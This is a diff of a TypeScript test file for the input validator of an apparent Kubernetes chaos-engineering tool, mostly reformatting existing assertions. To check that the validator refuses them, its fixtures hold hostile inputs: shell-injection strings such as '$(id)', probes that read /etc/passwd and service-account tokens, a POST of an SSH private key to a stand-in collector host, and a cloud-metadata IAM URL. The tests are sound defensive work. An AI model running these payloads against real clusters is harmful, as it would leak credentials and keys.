@@ -38,7 +38,11 @@ describe('the registry is the one source', () => {
       expect([d.name, 'kubernetes', d.platforms.kubernetes === true]).toEqual([d.name, 'kubernetes', d.name in K8S_FAULTS]);
       expect(d.defaultDurationS).toBeGreaterThan(0);
     }
-    expect(Object.keys(K8S_FAULTS).sort()).toEqual(FAULTS.filter((d) => d.platforms.kubernetes === true).map((d) => d.name).sort());
+    expect(Object.keys(K8S_FAULTS).sort()).toEqual(
+      FAULTS.filter((d) => d.platforms.kubernetes === true)
+        .map((d) => d.name)
+        .sort(),
+    );
   });
 
   test('no prototype names are faults', () => {
@@ -55,26 +59,35 @@ describe('no shell text from YAML: every parameter is a strict shape', () => {
       const needs: Record<string, string> = fault === 'model-corruption' && env !== 'FILE_PATH' ? { FILE_PATH: '/models/m.pth' } : {};
       const problems = problemsOf(yaml(fault, { TOTAL_CHAOS_DURATION: '60', [env]: bad, ...needs }));
       // one field error, at that env entry (index 1: after TOTAL_CHAOS_DURATION), naming the variable
-      expect([bad, problems]).toEqual([bad, [expect.stringMatching(new RegExp(`^spec\\.experiments\\[0\\]\\.spec\\.components\\.env\\[1\\]\\.value: ${env} must be `))]]);
+      expect([bad, problems]).toEqual([
+        bad,
+        [expect.stringMatching(new RegExp(`^spec\\.experiments\\[0\\]\\.spec\\.components\\.env\\[1\\]\\.value: ${env} must be `))],
+      ]);
     }
   });
 
   test('the common env is strict too (TARGET_PODS, SEQUENCE, PODS_AFFECTED_PERC, durations)', () => {
-    expect(problemsOf(yaml('pod-delete', { TARGET_PODS: 'a,b;c' }))).toEqual(['spec.experiments[0].spec.components.env[0].value: must be a comma list of pod names']);
+    expect(problemsOf(yaml('pod-delete', { TARGET_PODS: 'a,b;c' }))).toEqual([
+      'spec.experiments[0].spec.components.env[0].value: must be a comma list of pod names',
+    ]);
     expect(problemsOf(yaml('pod-delete', { SEQUENCE: 'serial; id' }))[0]).toContain('SEQUENCE must be one of parallel, serial');
     expect(problemsOf(yaml('pod-delete', { PODS_AFFECTED_PERC: '0x10' }))[0]).toContain('PODS_AFFECTED_PERC must be a whole number from 0 to 100');
     expect(problemsOf(yaml('pod-delete', { TOTAL_CHAOS_DURATION: '$(id)' }))[0]).toContain('TOTAL_CHAOS_DURATION must be a duration in seconds');
   });
 });
 
-describe('bounds: only decimal numbers, within the operator\'s limits', () => {
+describe("bounds: only decimal numbers, within the operator's limits", () => {
   test.each<[string, Record<string, string>, string]>([
     ['pod-cpu-hog', { CPU_CORES: '100000' }, 'env[0].value: CPU_CORES must be <= 16 (limits.maxCpuCores)'],
     ['pod-cpu-hog', { CPU_LOAD: '0x10' }, 'env[0].value: CPU_LOAD must be a whole decimal number %'],
     ['pod-cpu-hog', { CPU_LOAD: '101' }, 'env[0].value: CPU_LOAD must be <= 100 %'],
     ['pod-network-latency', { NETWORK_LATENCY: '1e20' }, 'env[0].value: NETWORK_LATENCY must be a whole decimal number ms'],
     ['pod-network-latency', { NETWORK_LATENCY: '600000' }, 'env[0].value: NETWORK_LATENCY must be <= 60000 ms (limits.maxNetworkLatencyMs)'],
-    ['pod-memory-hog', { MEMORY_CONSUMPTION: '4096', NUMBER_OF_WORKERS: '4' }, 'env[0].value: MEMORY_CONSUMPTION x NUMBER_OF_WORKERS is 16384 MB, more than limits.maxMemoryMb (8192 MB)'],
+    [
+      'pod-memory-hog',
+      { MEMORY_CONSUMPTION: '4096', NUMBER_OF_WORKERS: '4' },
+      'env[0].value: MEMORY_CONSUMPTION x NUMBER_OF_WORKERS is 16384 MB, more than limits.maxMemoryMb (8192 MB)',
+    ],
     ['pod-network-loss', { NETWORK_PACKET_LOSS_PERCENTAGE: '1e1' }, 'env[0].value: NETWORK_PACKET_LOSS_PERCENTAGE must be a decimal number like 50 or 12.5'],
     ['pod-delete', { TOTAL_CHAOS_DURATION: '8640000000000' }, 'env[0].value: TOTAL_CHAOS_DURATION must be at most 6h (limits.maxChaosDuration)'],
     ['pod-delete', { RAMP_TIME: '100h' }, 'env[0].value: RAMP_TIME must be at most 1h (limits.maxRampTime)'],
@@ -89,17 +102,27 @@ describe('bounds: only decimal numbers, within the operator\'s limits', () => {
             runProperties: { ${rp} }
             httpProbe/inputs: { url: "http://x:1/", method: { get: { criteria: "==", responseCode: "200" } } }
 `;
-    expect(problemsOf(yaml('pod-delete', {}, probe('probeTimeout: "999999h"')))).toEqual(['spec.experiments[0].spec.probe[0].runProperties.probeTimeout: probeTimeout must be at most 5m (limits.maxProbeTimeout)']);
-    expect(problemsOf(yaml('pod-delete', {}, probe('probeTimeout: 1, attempt: 1000')))).toEqual(['spec.experiments[0].spec.probe[0].runProperties.attempt: attempt must be <= 20 (limits.maxProbeAttempts)']);
+    expect(problemsOf(yaml('pod-delete', {}, probe('probeTimeout: "999999h"')))).toEqual([
+      'spec.experiments[0].spec.probe[0].runProperties.probeTimeout: probeTimeout must be at most 5m (limits.maxProbeTimeout)',
+    ]);
+    expect(problemsOf(yaml('pod-delete', {}, probe('probeTimeout: 1, attempt: 1000')))).toEqual([
+      'spec.experiments[0].spec.probe[0].runProperties.attempt: attempt must be <= 20 (limits.maxProbeAttempts)',
+    ]);
     expect(problemsOf(yaml('pod-delete', {}, probe('probeTimeout: 1, interval: "0x10"')))[0]).toContain('runProperties.interval: must be a duration');
   });
 
   test('appns must be a namespace name; set-based applabel selectors are accepted, invalid ones refused', () => {
-    const engine = (appns: string, applabel: string) => yaml('pod-delete', {}).replace('appns: footanalytics', `appns: ${JSON.stringify(appns)}`).replace('applabel: "app.kubernetes.io/name=api-gateway"', `applabel: ${JSON.stringify(applabel)}`);
-    for (const bad of ['..', '../kube-system', 'a b', 'a;b', 'Foot']) expect(problemsOf(engine(bad, 'app=a'))[0]).toMatch(/^spec\.appinfo\.appns: must be a namespace name/);
+    const engine = (appns: string, applabel: string) =>
+      yaml('pod-delete', {})
+        .replace('appns: footanalytics', `appns: ${JSON.stringify(appns)}`)
+        .replace('applabel: "app.kubernetes.io/name=api-gateway"', `applabel: ${JSON.stringify(applabel)}`);
+    for (const bad of ['..', '../kube-system', 'a b', 'a;b', 'Foot'])
+      expect(problemsOf(engine(bad, 'app=a'))[0]).toMatch(/^spec\.appinfo\.appns: must be a namespace name/);
     expect(load(engine('footanalytics', 'app in (a,b)')).target.labelSelector).toBe('app in (a,b)');
     expect(load(engine('footanalytics', 'tier notin (db), !canary')).target.labelSelector).toBe('tier notin (db), !canary');
-    expect(problemsOf(engine('footanalytics', 'app=$(id)'))[0]).toMatch(/^spec\.appinfo\.applabel: is not a label selector: label selector: unexpected character '\$'/);
+    expect(problemsOf(engine('footanalytics', 'app=$(id)'))[0]).toMatch(
+      /^spec\.appinfo\.applabel: is not a label selector: label selector: unexpected character '\$'/,
+    );
   });
 });
 
@@ -129,16 +152,24 @@ describe("the worker's own check of a crafted workflow input", () => {
   });
 
   test('hypothesis and plan prose is printable: a terminal escape or a NUL is refused, line breaks and tabs are fine', () => {
-    const ok = { ...base(), hypothesis: 'Line one\n\tline two', hypothesisPlan: { steadyState: [], experiment: ['kill one pod'], successCriteria: [], rollbackPlan: [] } };
+    const ok = {
+      ...base(),
+      hypothesis: 'Line one\n\tline two',
+      hypothesisPlan: { steadyState: [], experiment: ['kill one pod'], successCriteria: [], rollbackPlan: [] },
+    };
     expect(check(ok)).toEqual([]);
     expect(check({ ...base(), hypothesis: 'fine\u001b[2J\u001b]0;owned\u0007' })).toEqual(['hypothesis: must be printable text (no control characters)']);
-    expect(check({ ...ok, hypothesisPlan: { ...ok.hypothesisPlan, rollbackPlan: ['scale up\u0000'] } })).toEqual(['hypothesisPlan.rollbackPlan[0]: must be printable text (no control characters)']);
+    expect(check({ ...ok, hypothesisPlan: { ...ok.hypothesisPlan, rollbackPlan: ['scale up\u0000'] } })).toEqual([
+      'hypothesisPlan.rollbackPlan[0]: must be printable text (no control characters)',
+    ]);
   });
 
   test('the policy allowlists: blast radius, images, sockets, local commands, probe namespaces and writes, body roots, hosts', () => {
     const s = base();
     s.target.namespace = 'kube-system';
-    expect(check(s)[0]).toContain('target.namespace: blast radius: target kube-system/app.kubernetes.io/name=api-gateway is not in blastRadius.allow of /etc/tempest.yaml (kube-system is a protected namespace');
+    expect(check(s)[0]).toContain(
+      'target.namespace: blast radius: target kube-system/app.kubernetes.io/name=api-gateway is not in blastRadius.allow of /etc/tempest.yaml (kube-system is a protected namespace',
+    );
     const i = base();
     i.faults[0].params.images = { runtimeHelper: 'evil.example/x:1' };
     expect(check(i)).toEqual(['faults[0].params.images.runtimeHelper: LIB_IMAGE evil.example/x:1 is not in images.allow of /etc/tempest.yaml']);
@@ -151,38 +182,58 @@ describe("the worker's own check of a crafted workflow input", () => {
             mode: SOT
             cmdProbe/inputs: { command: "cat /etc/passwd", comparator: { type: string, criteria: contains, value: root } }
 `);
-    expect(validateProbe(cmd, DEFAULT_LIMITS, allow)).toMatchObject({ ok: false, problems: [{ message: expect.stringContaining('would run /bin/sh on the worker host, which /etc/tempest.yaml does not allow (probes.allowLocalCommands)') }] });
+    expect(validateProbe(cmd, DEFAULT_LIMITS, allow)).toMatchObject({
+      ok: false,
+      problems: [
+        { message: expect.stringContaining('would run /bin/sh on the worker host, which /etc/tempest.yaml does not allow (probes.allowLocalCommands)') },
+      ],
+    });
     const inKubeSystem = probes(`          - name: c
             type: cmdProbe
             mode: SOT
             cmdProbe/inputs: { command: "cat /var/run/secrets/kubernetes.io/serviceaccount/token", source: { namespace: kube-system, labelSelector: "k8s-app=kube-dns" }, comparator: { type: string, criteria: contains, value: x } }
 `);
-    expect(validateProbe(inKubeSystem, DEFAULT_LIMITS, allow)).toMatchObject({ ok: false, problems: [{ message: 'namespace kube-system is not in blastRadius.allow of /etc/tempest.yaml' }] });
+    expect(validateProbe(inKubeSystem, DEFAULT_LIMITS, allow)).toMatchObject({
+      ok: false,
+      problems: [{ message: 'namespace kube-system is not in blastRadius.allow of /etc/tempest.yaml' }],
+    });
     const k8s = probes(`          - name: k
             type: k8sProbe
             mode: SOT
             k8sProbe/inputs: { group: "", version: v1, resource: secrets, namespace: kube-system, operation: present }
 `);
-    expect(validateProbe(k8s, DEFAULT_LIMITS, allow)).toMatchObject({ ok: false, problems: [{ message: 'namespace kube-system is not in blastRadius.allow of /etc/tempest.yaml' }] });
+    expect(validateProbe(k8s, DEFAULT_LIMITS, allow)).toMatchObject({
+      ok: false,
+      problems: [{ message: 'namespace kube-system is not in blastRadius.allow of /etc/tempest.yaml' }],
+    });
     const k8sDefault = probes(`          - name: k
             type: k8sProbe
             mode: SOT
             k8sProbe/inputs: { group: "", version: v1, resource: pods, operation: delete, labelSelector: "app=x" }
 `);
     expect(k8sDefault.type === 'k8sProbe' && k8sDefault.k8s.namespace).toBe('footanalytics'); // the engine's namespace when none is given
-    expect(validateProbe(k8sDefault, DEFAULT_LIMITS, allow)).toMatchObject({ ok: false, problems: [{ message: expect.stringContaining('delete on pods is not allowed by /etc/tempest.yaml (probes.k8sWritable: none)') }] });
+    expect(validateProbe(k8sDefault, DEFAULT_LIMITS, allow)).toMatchObject({
+      ok: false,
+      problems: [{ message: expect.stringContaining('delete on pods is not allowed by /etc/tempest.yaml (probes.k8sWritable: none)') }],
+    });
     const body = probes(`          - name: h
             type: httpProbe
             mode: SOT
             httpProbe/inputs: { url: "http://collector.example/", method: { post: { bodyPath: /root/.ssh/id_rsa, criteria: "==", responseCode: "200" } } }
 `);
-    expect(validateProbe(body, DEFAULT_LIMITS, allow)).toMatchObject({ ok: false, problems: [{ message: expect.stringContaining('is not inside files.probeBodyRoots of /etc/tempest.yaml (none declared)') }] });
+    expect(validateProbe(body, DEFAULT_LIMITS, allow)).toMatchObject({
+      ok: false,
+      problems: [{ message: expect.stringContaining('is not inside files.probeBodyRoots of /etc/tempest.yaml (none declared)') }],
+    });
     const meta = probes(`          - name: h
             type: httpProbe
             mode: SOT
             httpProbe/inputs: { url: "http://169.254.169.254/latest/meta-data/iam/", method: { get: { criteria: "==", responseCode: "200" } } }
 `);
-    expect(validateProbe(meta, DEFAULT_LIMITS, allow)).toMatchObject({ ok: false, problems: [{ message: expect.stringContaining('link-local / metadata address') }] });
+    expect(validateProbe(meta, DEFAULT_LIMITS, allow)).toMatchObject({
+      ok: false,
+      problems: [{ message: expect.stringContaining('link-local / metadata address') }],
+    });
   });
 
   test('an unsafe pattern is fine (RE2 is linear); an invalid one is refused at validate time', () => {
@@ -204,12 +255,16 @@ describe('a namespace the blast radius restricts to a label selector: probes onl
     probes: { ...defaultPolicy().probes, k8sWritable: ['configmaps', 'pods'], k8sClusterScoped: ['nodes'] },
   };
   const cmd = (source: Record<string, string>) => ({
-    name: 'c', type: 'cmdProbe', mode: 'SOT',
+    name: 'c',
+    type: 'cmdProbe',
+    mode: 'SOT',
     runProperties: { probeTimeoutMs: 1000, intervalMs: 100, attempts: 1, pollingIntervalMs: 1000, initialDelayMs: 0, stopOnFailure: false },
     cmd: { command: 'cat /var/run/secrets/token', source, comparator: { type: 'string', criteria: 'contains', value: 'x' } },
   });
   const k8s = (k: Record<string, string>) => ({
-    name: 'k', type: 'k8sProbe', mode: 'SOT',
+    name: 'k',
+    type: 'k8sProbe',
+    mode: 'SOT',
     runProperties: { probeTimeoutMs: 1000, intervalMs: 100, attempts: 1, pollingIntervalMs: 1000, initialDelayMs: 0, stopOnFailure: false },
     k8s: { group: '', version: 'v1', resource: 'configmaps', namespace: 'footanalytics', ...k },
   });
@@ -262,7 +317,10 @@ describe('a namespace the blast radius restricts to a label selector: probes onl
   });
 
   test('the same refusals come from the loader, for an engine in footanalytics', () => {
-    const engine = yaml('pod-delete', {}, `          - name: steal
+    const engine = yaml(
+      'pod-delete',
+      {},
+      `          - name: steal
             type: cmdProbe
             mode: SOT
             cmdProbe/inputs: { command: "cat /etc/secret/db-password", source: { namespace: footanalytics, labelSelector: "app=db" }, comparator: { type: string, criteria: contains, value: x } }
@@ -270,8 +328,12 @@ describe('a namespace the blast radius restricts to a label selector: probes onl
             type: k8sProbe
             mode: SOT
             k8sProbe/inputs: { group: "", version: v1, resource: pods, operation: create, data: "apiVersion: v1\\nkind: Pod\\nmetadata: { name: x }\\n" }
-`);
-    const withPolicy = { ...restricted, blastRadius: { ...restricted.blastRadius, allow: [{ namespace: 'footanalytics', selector: 'app.kubernetes.io/name=api-gateway' }] } };
+`,
+    );
+    const withPolicy = {
+      ...restricted,
+      blastRadius: { ...restricted.blastRadius, allow: [{ namespace: 'footanalytics', selector: 'app.kubernetes.io/name=api-gateway' }] },
+    };
     let problems: string[] = [];
     try {
       loadText(engine, 'e.yaml', { policy: withPolicy });
@@ -280,29 +342,56 @@ describe('a namespace the blast radius restricts to a label selector: probes onl
       problems = e.problems.map((p) => `${p.path}: ${p.message}`);
     }
     expect(problems).toEqual([
-      expect.stringMatching(/^spec\.experiments\[0\]\.spec\.probe\[0\]\["cmdProbe\/inputs"\]\.source\.labelSelector: selects pods outside the blast radius: .* allows in footanalytics only app\.kubernetes\.io\/name=api-gateway$/),
+      expect.stringMatching(
+        /^spec\.experiments\[0\]\.spec\.probe\[0\]\["cmdProbe\/inputs"\]\.source\.labelSelector: selects pods outside the blast radius: .* allows in footanalytics only app\.kubernetes\.io\/name=api-gateway$/,
+      ),
       expect.stringMatching(/^spec\.experiments\[0\]\.spec\.probe\[1\]\["k8sProbe\/inputs"\]\.operation: create is refused in footanalytics: /),
     ]);
   });
 });
 
 describe("the worker's own namespace: never reached through `*`, only by its exact name", () => {
-  const star = (): Policy => ({ ...defaultPolicy('/etc/tempest.yaml'), blastRadius: { allow: [{ namespace: '*' }], protectedNamespaces: [], workerNamespace: 'tempest-system' } });
+  const star = (): Policy => ({
+    ...defaultPolicy('/etc/tempest.yaml'),
+    blastRadius: { allow: [{ namespace: '*' }], protectedNamespaces: [], workerNamespace: 'tempest-system' },
+  });
   const exact = (): Policy => ({ ...star(), blastRadius: { ...star().blastRadius, allow: [{ namespace: '*' }, { namespace: 'tempest-system' }] } });
   const rp = { probeTimeoutMs: 1000, intervalMs: 100, attempts: 1, pollingIntervalMs: 1000, initialDelayMs: 0, stopOnFailure: false };
-  const cmd = { name: 'c', type: 'cmdProbe', mode: 'SOT', runProperties: rp, cmd: { command: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token', source: { namespace: 'tempest-system', pod: 'tempest-worker-0' }, comparator: { type: 'string', criteria: 'contains', value: 'x' } } };
-  const k8s = { name: 'k', type: 'k8sProbe', mode: 'SOT', runProperties: rp, k8s: { group: '', version: 'v1', resource: 'pods', namespace: 'tempest-system', operation: 'present' } };
-  const OWN = "namespace tempest-system is the worker's own namespace: nothing may target it unless blastRadius.allow of /etc/tempest.yaml lists it by its exact name";
+  const cmd = {
+    name: 'c',
+    type: 'cmdProbe',
+    mode: 'SOT',
+    runProperties: rp,
+    cmd: {
+      command: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
+      source: { namespace: 'tempest-system', pod: 'tempest-worker-0' },
+      comparator: { type: 'string', criteria: 'contains', value: 'x' },
+    },
+  };
+  const k8s = {
+    name: 'k',
+    type: 'k8sProbe',
+    mode: 'SOT',
+    runProperties: rp,
+    k8s: { group: '', version: 'v1', resource: 'pods', namespace: 'tempest-system', operation: 'present' },
+  };
+  const OWN =
+    "namespace tempest-system is the worker's own namespace: nothing may target it unless blastRadius.allow of /etc/tempest.yaml lists it by its exact name";
 
   test('probes and a fault target are refused under *, allowed when listed exactly', () => {
-    expect(validateProbe(cmd, DEFAULT_LIMITS, star())).toMatchObject({ ok: false, problems: [{ path: 'probe["cmdProbe/inputs"].source.namespace', message: OWN, value: 'tempest-system' }] });
+    expect(validateProbe(cmd, DEFAULT_LIMITS, star())).toMatchObject({
+      ok: false,
+      problems: [{ path: 'probe["cmdProbe/inputs"].source.namespace', message: OWN, value: 'tempest-system' }],
+    });
     expect(validateProbe(k8s, DEFAULT_LIMITS, star())).toMatchObject({ ok: false, problems: [{ path: 'probe["k8sProbe/inputs"].namespace', message: OWN }] });
     expect(validateProbe(cmd, DEFAULT_LIMITS, exact())).toMatchObject({ ok: true });
     expect(validateProbe(k8s, DEFAULT_LIMITS, exact())).toMatchObject({ ok: true });
     const spec = load(yaml('pod-delete', { TOTAL_CHAOS_DURATION: '60' }));
     const inOwn = { ...spec, target: { ...spec.target, namespace: 'tempest-system', labelSelector: 'app.kubernetes.io/name=tempest-worker' } };
     const r = validateExperimentSpec(inOwn, DEFAULT_LIMITS, star());
-    expect(r.ok ? [] : r.problems.map((p) => p.message)).toEqual([expect.stringContaining("(tempest-system is the worker's own namespace: it must be listed by its exact name)")]);
+    expect(r.ok ? [] : r.problems.map((p) => p.message)).toEqual([
+      expect.stringContaining("(tempest-system is the worker's own namespace: it must be listed by its exact name)"),
+    ]);
     expect(validateExperimentSpec(inOwn, DEFAULT_LIMITS, exact()).ok).toBe(true);
     expect(validateExperimentSpec(spec, DEFAULT_LIMITS, star()).ok).toBe(true); // footanalytics: still in *
   });
